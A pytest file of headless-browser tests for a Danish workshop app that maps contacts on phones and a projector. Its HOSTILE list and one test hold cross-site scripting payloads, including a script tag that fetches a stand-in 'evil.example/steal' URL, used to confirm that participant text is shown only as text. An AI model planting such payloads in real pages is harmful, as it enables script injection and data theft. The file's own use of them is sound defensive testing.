"""The workshop's pages in headless Chromium against a real server: phone, projector, hostile text."""

from __future__ import annotations

import re

import pytest
from a11y import violations
from test_workshop_server import first_state
from workbooks import make_xlsx
from workshop_server import ROOT, Server, facilitator, participant

from netkort.contrast import contrast
from netkort.look import OUTLINE
from netkort.map import LEVEL_COLORS, LINE_STYLES

pytestmark = pytest.mark.browser

HOSTILE = ['<img src="http://evil.example/x.png" onerror="alert(1)">',
           "<script>fetch('http://evil.example/steal')</script>",
           '"><svg onload=alert(2)>', "javascript:alert(3)"]


@pytest.fixture
def server(tmp_path):
    with Server(tmp_path / "w.sqlite") as running:
        yield running


def watched(browser, server, **options):
    """A page that may talk to the workshop server only: everything else is blocked and recorded."""
    context = browser.new_context(**options)
    page = context.new_page()
    page.requests, page.errors, page.dialogs, page.console = [], [], [], []

    def route(route):
        if route.request.url.startswith(server.url + "/"):
            route.continue_()
        else:
            page.requests.append(route.request.url)
            route.abort()

    page.route("**/*", route)
    page.on("pageerror", lambda error: page.errors.append(str(error)))
    page.on("console", lambda message: page.console.append(message.text))

    def dialog(d):
        page.dialogs.append(d.message)
        d.dismiss()

    page.on("dialog", dialog)
    return context, page


def join(page, server, name: str) -> None:
    page.goto(server.url + "/")
    assert violations(page) == []
    page.fill("#code", "nope")
    page.click("button[type=submit]")
    assert page.locator(".error").inner_text() == "Koden passer ikke. Se koden på skærmen, og prøv igen."
    page.fill("#code", server.code.lower())
    page.click("button[type=submit]")
    page.wait_for_url("**/name")
    assert violations(page) == []
    page.fill("#name", name)
    page.click("button[type=submit]")
    page.wait_for_url("**/p")


def test_a_participant_on_a_phone_adds_finds_and_edits_contacts(browser, server):
    other = participant(server, "Jens Berg")
    other.post("/api/entries", json={"name": "Musikskolen", "level": "netværk", "type": "kulturinstitution",
                                     "sector": "offentlig"})
    context, page = watched(browser, server, viewport={"width": 390, "height": 844}, is_mobile=True, has_touch=True)
    try:
        join(page, server, "Mette Kjær")
        page.wait_for_function("() => document.querySelectorAll('#actors option').length === 1")
        assert page.locator("#connection").inner_text() == "Forbundet."
        assert violations(page) == []
        # the circle explained, one line per level; the spaces, one line each
        assert page.locator("#level-cooperation-line").inner_text() == "I har en konkret aktivitet sammen."
        assert page.locator("#space-performative-line").inner_text() == "At skabe og udtrykke sig."
        # an actor already in the network: add yourself as a contact
        page.fill("#f-name", "musikskolen ")
        assert page.locator("#exists-text").inner_text().strip() == "»Musikskolen« findes allerede i netværket."
        page.click("#add-me")
        assert page.input_value("#f-name") == "Musikskolen"
        assert page.input_value("#f-sector") == "offentlig" and page.input_value("#f-type") == "kulturinstitution"
        page.check("#level-cooperation")
        page.check("#space-performative")
        page.click("#save")
        page.wait_for_function("() => document.getElementById('form-status').textContent === 'Gemt: Musikskolen'")
        assert page.locator("#mine li").count() == 1
        # refused values say what is wrong by the field
        page.fill("#f-name", "Åby Roklub")
        page.click("#save")
        page.wait_for_selector("#f-level-error:not(:empty)")
        assert page.locator("#f-level-error").inner_text() == "Vælg relationen: netværk, samarbejde eller partnerskab."
        assert violations(page) == []
        page.check("#level-partnership")
        page.click("#save")
        page.wait_for_function("() => document.querySelectorAll('#mine li').length === 2")
        # edit one's own entry
        page.click("#mine li:first-child button:has-text('Ret')")
        assert page.input_value("#f-name") == "Åby Roklub"
        page.fill("#f-name", "Åby Roklub og Kajak")
        page.click("#save")
        page.wait_for_function("() => document.getElementById('form-status').textContent === 'Gemt: Åby Roklub og Kajak'")
        names = sorted(e["name"] for e in page.evaluate("window.workshop.mine()"))
        assert names == ["Musikskolen", "Åby Roklub og Kajak"]
        # an actor one already holds: the form says so and offers to edit it; saving anyway updates it
        page.fill("#f-name", "MUSIKSKOLEN")
        assert page.locator("#held-text").inner_text().strip() == (
            "Du har allerede »Musikskolen« som samarbejde. Ret den i stedet?")
        assert page.locator("#exists").is_hidden()
        page.check("#level-partnership")
        page.click("#save")
        page.wait_for_function("() => document.getElementById('form-status').textContent"
                               " === 'Opdateret: Musikskolen (du havde den allerede)'")
        assert sorted((e["name"], e["level"]) for e in page.evaluate("window.workshop.mine()")) == [
            ("Musikskolen", "partnership"), ("Åby Roklub og Kajak", "partnership")]
        assert page.locator("#mine li").count() == 2
        page.fill("#f-name", "musikskolen")
        page.click("#edit-held")
        assert page.locator("#form-title").inner_text() == "Ret kontakt"
        assert page.input_value("#f-name") == "Musikskolen" and page.locator("#held").is_hidden()
        assert violations(page) == []
        page.click("#cancel")
        assert page.evaluate("document.documentElement.scrollWidth") <= 390
        assert (page.requests, page.errors) == ([], [])
    finally:
        context.close()


def test_the_projector_shows_entries_live_with_call_outs_and_a_ticker(browser, server):
    context, page = watched(browser, server, viewport={"width": 1600, "height": 1000})
    try:
        page.goto(f"{server.url}/projector?key={server.key}")
        assert "key=" not in page.url
        page.wait_for_function("() => window.workshop && window.workshop.received.length > 0")
        mette = participant(server, "Mette Kjær")
        mette.post("/api/entries", json={"name": "Teatret Momentum", "level": "samarbejde",
                                         "spaces": ["Det performative rum"]})
        page.wait_for_function("() => document.querySelectorAll('#ticker li').length === 1")
        assert page.locator("#ticker li").inner_text() == "Mette Kjær tilføjede Teatret Momentum (samarbejde)"
        assert page.locator("#callouts li").first.inner_text() == "Det performative rum: første samarbejde!"
        assert page.locator("#count-performative-cooperation").inner_text() == "1"
        assert page.evaluate("window.workshop.nodes.get().map(n => n.name)").count("Teatret Momentum") == 1
        assert page.locator(".qr svg").count() == 1 and page.locator(".code").inner_text() == server.code
        assert violations(page) == []
        page.click("[data-layout=spaces]")
        page.wait_for_function("() => window.workshop.state().layout === 'spaces'")
        # the interest analysis: choose an actor, then a cell
        page.fill("#initiative", "Læselyst 2026")
        page.click("#initiative-form button")
        page.wait_for_selector("#pick button")
        page.click("#pick button:has-text('Teatret Momentum')")
        page.click(".cell[data-influence='5'][data-interest='4']")
        page.wait_for_function("() => document.querySelector(\".cell[data-influence='5'][data-interest='4'] .chip\")")
        page.wait_for_function("() => document.getElementById('place-status').textContent !== ''")
        assert page.locator("#place-status").inner_text() == "Teatret Momentum: indflydelse 5, interesse 4"
        assert page.locator(".cell[data-influence='5'][data-interest='4'] .chip").inner_text() == "Teatret Momentum"
        assert page.locator(".qn-manage-closely").inner_text() == "Ressourcepersoner"
        assert violations(page) == []
        assert (page.requests, page.errors) == ([], [])
    finally:
        context.close()


def test_hostile_text_typed_by_a_participant_stays_text_on_the_projector(browser, server):
    mallory = participant(server, '<img src=x onerror="alert(9)">Mallory')
    for index, name in enumerate(HOSTILE):
        response = mallory.post("/api/entries", json={"name": name, "level": "partnerskab", "type": name[:100],
                                                      "spaces": ["læring"]})
        assert response.status_code == 201, (index, response.text)
    context, page = watched(browser, server, viewport={"width": 1400, "height": 900})
    try:
        page.goto(f"{server.url}/projector?key={server.key}")
        page.wait_for_function("() => document.querySelectorAll('#ticker li').length === 4")
        page.fill("#initiative", "<b>Initiativ</b>")
        page.click("#initiative-form button")
        page.wait_for_selector("#pick button")
        page.wait_for_timeout(500)
        ticker = page.locator("#ticker").inner_text()
        for name in HOSTILE:
            assert name in ticker
        assert page.locator("#ticker img, #ticker script, #ticker svg, #pick img, #pick svg").count() == 0
        assert sorted(page.locator("#pick button").all_inner_texts()) == sorted(HOSTILE)
        assert page.evaluate("window.workshop.nodes.get().filter(n => n.name.includes('evil')).length") == 2
        assert page.dialogs == [] and page.requests == [] and page.errors == []
        assert not [line for line in page.console if "Content Security Policy" in line]
    finally:
        context.close()
    phone, page = watched(browser, server, viewport={"width": 390, "height": 844})
    try:
        page.goto(f"{server.url}/?code={server.code}")
        page.fill("#name", HOSTILE[1])
        page.click("button[type=submit]")
        page.wait_for_url("**/p")
        page.wait_for_function("() => document.querySelectorAll('#actors option').length === 4")
        assert page.locator(".who").inner_text() == f"Hej {HOSTILE[1]}"
        assert page.dialogs == [] and page.requests == [] and page.errors == []
    finally:
        phone.close()


def test_the_phone_page_shows_a_lost_connection_and_saves_once_when_it_is_back(browser, tmp_path):
    db = tmp_path / "w.sqlite"
    first = Server(db).start()
    context, page = watched(browser, first, viewport={"width": 390, "height": 844})
    try:
        join(page, first, "Mette")
        page.wait_for_function("() => document.getElementById('connection').textContent === 'Forbundet.'")
        first.kill()
        first.stop()
        page.wait_for_function(
            "() => document.getElementById('connection').textContent === 'Forbindelsen er afbrudt. Prøver igen …'")
        page.fill("#f-name", "Gemt under afbrydelsen")
        page.check("#level-network")
        page.click("#save")
        page.wait_for_function("() => document.getElementById('form-status').textContent.startsWith('Ikke gemt endnu')")
        second = Server(db, port=first.port).start()
        try:
            page.wait_for_function("() => document.getElementById('connection').textContent === 'Forbundet igen.'",
                                   timeout=20000)
            page.wait_for_function(
                "() => document.getElementById('form-status').textContent === 'Gemt: Gemt under afbrydelsen'",
                timeout=20000)
            page.wait_for_timeout(2000)   # further retries would come now: none may store a second copy
            state = first_state(facilitator(second))
            assert state["entries"] == 1
            assert [line["name"] for line in state["ticker"]] == ["Gemt under afbrydelsen"]
        finally:
            second.stop()
    finally:
        context.close()


# --- the projector draws the map exactly as `netkort map` does ---------------------------------------

# Every text drawn on a canvas, with its colour: the ring titles are canvas text.
RECORD_TEXT = """window.drawnTexts = [];
const fillText = CanvasRenderingContext2D.prototype.fillText;
CanvasRenderingContext2D.prototype.fillText = function (text) {
  window.drawnTexts.push([String(text), String(this.fillStyle)]);
  if (window.drawnTexts.length > 4000) window.drawnTexts.splice(0, 2000);
  return fillText.apply(this, arguments);
};"""


def legend(page) -> list[str]:
    items = page.locator("#legend-levels li:visible").all_text_contents()
    return [re.sub(r"\s+", " ", text).strip() for text in items]


def test_the_projector_draws_the_maps_rings_lines_and_legend(browser, tmp_path):
    start = make_xlsx(tmp_path / "start.xlsx", {"Kontakter": [
        ["Navn", "Medarbejder", "Relation", "Rum"],
        ["Åby Roklub", "Mette Kjær", None, "Møderummet"],                  # no level: a dashed outline
        ["Musikskolen", "Jens Berg", "partnerskab", "Det performative rum"]]})
    with Server(tmp_path / "w.sqlite", files=[start]) as server:
        mette = participant(server, "Mette Kjær")
        for name, level in (("Teatret Momentum", "samarbejde"), ("Åby Skole", "samarbejde"),
                            ("Kulturhuset", "partnerskab"), ("Jobcentret", "netværk")):
            assert mette.post("/api/entries", json={"name": name, "level": level,
                                                    "spaces": ["Læringsrummet"]}).status_code == 201
        context, page = watched(browser, server, viewport={"width": 1600, "height": 1000})
        try:
            page.add_init_script(RECORD_TEXT)
            page.goto(f"{server.url}/projector?key={server.key}")
            page.wait_for_function("() => window.workshop.received.length > 0")
            # two rings per partnership (Musikskolen, Kulturhuset), one per cooperation (two)
            page.wait_for_function("() => document.getElementById('map').dataset.rings === '6'")
            nodes = {n["name"]: n for n in page.evaluate("window.workshop.nodes.get()")}
            assert [name for name, n in nodes.items() if (n.get("shapeProperties") or {}).get("borderDashes")] == [
                "Åby Roklub"]
            for name, level in (("Musikskolen", "partnership"), ("Teatret Momentum", "cooperation"),
                                ("Jobcentret", "network"), ("Åby Roklub", "unknown")):
                assert nodes[name]["color"]["background"] == LEVEL_COLORS[level][0], name
                assert nodes[name]["color"]["border"] == OUTLINE, name
            lines = page.evaluate("""window.workshop.edges.get().map(e => [window.workshop.nodes.get(e.to).name,
                e.color.color, e.color.opacity, e.width, e.dashes || false])""")
            drawn = {to: rest for to, *rest in lines}
            for name, level in (("Kulturhuset", "partnership"), ("Åby Skole", "cooperation"),
                                ("Jobcentret", "network")):
                style = LINE_STYLES[level]
                assert drawn[name] == [style["color"], 1, style["width"], style["dashes"]], name
            # the ring titles in each ring's dark shade, at least 3:1 on the page
            titles = {text: colour for text, colour in page.evaluate("window.drawnTexts") if " · " in text}
            rings = page.evaluate("window.workshop.state().map.guides.rings")
            assert {ring["label"] for ring in rings} == {"Partnerskab · 2", "Samarbejde · 2", "Netværk · 1",
                                                         "Ukendt niveau · 1"}
            for ring in rings:
                assert titles[ring["label"]] == ring["border"]
                assert contrast(ring["border"], "#ffffff") >= 3
            # the legend: the map's marks, its words and the counts of now
            assert legend(page) == ["Partnerskab (to ringe), 2", "Samarbejde (én ring), 2", "Netværk (ingen ring), 1",
                                    "Ukendt niveau (stiplet kant), 1"]
            assert page.locator("#legend-levels li[data-level=partnership] svg circle").count() == 3
            assert page.locator(".legend-lines li").all_text_contents()[:4] == [
                "Partnerskab (tyk)", "Samarbejde (hel)", "Netværk (stiplet)", "Ukendt niveau (prikket)"]
            assert violations(page) == []
            mette.post("/api/entries", json={"name": "Åby Avis", "level": "netværk"})
            page.wait_for_function("() => window.workshop.state().entries === 5")
            assert legend(page)[2] == "Netværk (ingen ring), 2"
            # the four spaces: the same marks
            page.click("[data-layout=spaces]")
            page.wait_for_function("() => window.workshop.state().layout === 'spaces'")
            page.wait_for_function("() => document.getElementById('map').dataset.rings === '6'")
            assert violations(page) == []
            assert (page.requests, page.errors) == ([], [])
        finally:
            context.close()


def test_the_projector_shares_the_maps_drawing_code(server):
    served = server.client().get("/assets/map-draw.js")
    assert served.status_code == 200 and served.headers["content-type"].startswith("text/javascript")
    assert served.content == (ROOT / "netkort" / "assets" / "map-draw.js").read_bytes()
    projector = (ROOT / "netkort" / "workshop" / "assets" / "projector.js").read_text(encoding="utf-8")
    assert "netkortDraw(" in projector
    assert ".arc(" not in projector and "fillText" not in projector   # no drawing of its own


# --- the phone pages at 320 CSS pixels ---------------------------------------------------------------

def test_the_phone_pages_pass_axe_at_320_pixels(browser, server):
    other = participant(server, "Jens Berg")
    other.post("/api/entries", json={"name": "Musikskolen", "level": "netværk"})
    context, page = watched(browser, server, viewport={"width": 320, "height": 640}, is_mobile=True, has_touch=True)

    def check(state):
        assert violations(page) == [], state
        assert page.evaluate("document.documentElement.scrollWidth") <= 320, state

    try:
        page.goto(server.url + "/")
        check("join")
        page.fill("#code", "nope")
        page.click("button[type=submit]")
        page.wait_for_selector(".error")
        check("wrong code")
        page.fill("#code", server.code)
        page.click("button[type=submit]")
        page.wait_for_url("**/name")
        check("name")
        page.fill("#name", "Mette Kjær med et meget langt navn, der skal kunne brydes")
        page.click("button[type=submit]")
        page.wait_for_url("**/p")
        page.wait_for_function("() => document.querySelectorAll('#actors option').length === 1")
        check("participant")
        page.fill("#f-name", "musikskolen")
        page.wait_for_selector("#add-me:visible")
        check("exists")
        page.click("#add-me")
        page.click("#save")
        page.wait_for_selector("#f-level-error:not(:empty)")
        check("errors")
        page.check("#level-cooperation")
        page.click("#save")
        page.wait_for_function("() => document.querySelectorAll('#mine li').length === 1")
        page.click("#mine li:first-child button:has-text('Ret')")
        check("editing")
        page.click("#cancel")
        page.fill("#f-name", "musikskolen")
        page.wait_for_selector("#edit-held:visible")
        check("held")
        assert (page.requests, page.errors) == ([], [])
    finally:
        context.close()


def test_a_second_phone_continues_as_the_same_name_with_the_resume_code(browser, server):
    anne = participant(server, "Anne Holm")
    anne.post("/api/entries", json={"name": "Musikskolen i Torup", "level": "partnerskab"})
    code = anne.get("/p").text.split('id="resume-code">')[1][:4]
    context, page = watched(browser, server, viewport={"width": 320, "height": 640}, is_mobile=True, has_touch=True)
    try:
        page.goto(f"{server.url}/?code={server.code}")
        page.fill("#name", "anne holm")
        page.click("button[type=submit]")
        page.wait_for_selector("#resume")
        assert page.locator("#taken-error").inner_text().startswith("Anne Holm er allerede med fra en anden enhed.")
        assert page.locator("#resume-title").inner_text() == "Fortsæt som Anne Holm"
        assert violations(page) == [] and page.evaluate("document.documentElement.scrollWidth") <= 320
        page.fill("#resume", "0000" if code != "0000" else "1111")
        page.click("button:has-text('Fortsæt som Anne Holm')")
        page.wait_for_selector("#resume-error")
        assert page.locator("#resume").get_attribute("aria-invalid") == "true"
        assert violations(page) == []
        page.fill("#resume", code)
        page.click("button:has-text('Fortsæt som Anne Holm')")
        page.wait_for_url("**/p")
        page.wait_for_function("() => document.querySelectorAll('#mine li').length === 1")
        assert page.locator("#mine li .entry-name").inner_text() == "Musikskolen i Torup"
        assert page.locator("#resume-code").inner_text() == code
        assert violations(page) == [] and page.evaluate("document.documentElement.scrollWidth") <= 320
        page.goto(f"{server.url}/projector?key={server.key}")
        page.goto(f"{server.url}/participants")
        assert page.locator("td").all_inner_texts() == ["Anne Holm", code, "1"]
        assert violations(page) == []
        assert (page.requests, page.errors) == ([], [])
    finally:
        context.close()


# --- English -------------------------------------------------------------------------------------------

def test_the_english_projector_and_phone_page(browser, tmp_path):
    with Server(tmp_path / "w.sqlite", args=["--lang", "en"]) as server:
        context, page = watched(browser, server, viewport={"width": 1600, "height": 1000})
        try:
            page.goto(f"{server.url}/projector?key={server.key}")
            page.wait_for_function("() => window.workshop.received.length > 0")
            assert page.evaluate("document.documentElement.lang") == "en"
            mette = participant(server, "Mette")
            mette.post("/api/entries", json={"name": "Musikskolen", "level": "cooperation",
                                             "spaces": ["Performative space"]})
            page.wait_for_function("() => document.querySelectorAll('#ticker li').length === 1")
            assert page.locator("#ticker li").inner_text() == "Mette added Musikskolen (cooperation)"
            assert page.locator("#callouts li").first.inner_text() == "Performative space: first cooperation!"
            assert page.locator("#entries").inner_text() == "1 contact"
            assert legend(page) == ["Partnership (two rings), 0", "Cooperation (one ring), 1",
                                    "Network (no ring), 0"]
            assert violations(page) == []
            assert (page.requests, page.errors) == ([], [])
        finally:
            context.close()
        phone, page = watched(browser, server, viewport={"width": 390, "height": 844})
        try:
            page.goto(f"{server.url}/?code={server.code}")
            assert page.locator("h1").inner_text() == "Who are you?"
            page.fill("#name", "Jens")
            page.click("button[type=submit]")
            page.wait_for_url("**/p")
            page.wait_for_function("() => document.getElementById('connection').textContent === 'Connected.'")
            page.fill("#f-name", "Åby Roklub")
            page.click("#save")
            page.wait_for_selector("#f-level-error:not(:empty)")
            assert page.locator("#f-level-error").inner_text() == "Choose the relation: network, cooperation or partnership."
            page.check("#level-network")
            page.click("#save")
            page.wait_for_function("() => document.getElementById('form-status').textContent === 'Saved: Åby Roklub'")
            assert page.locator("#resume").inner_text().startswith("Your resume code: ")
            assert violations(page) == []
        finally:
            phone.close()
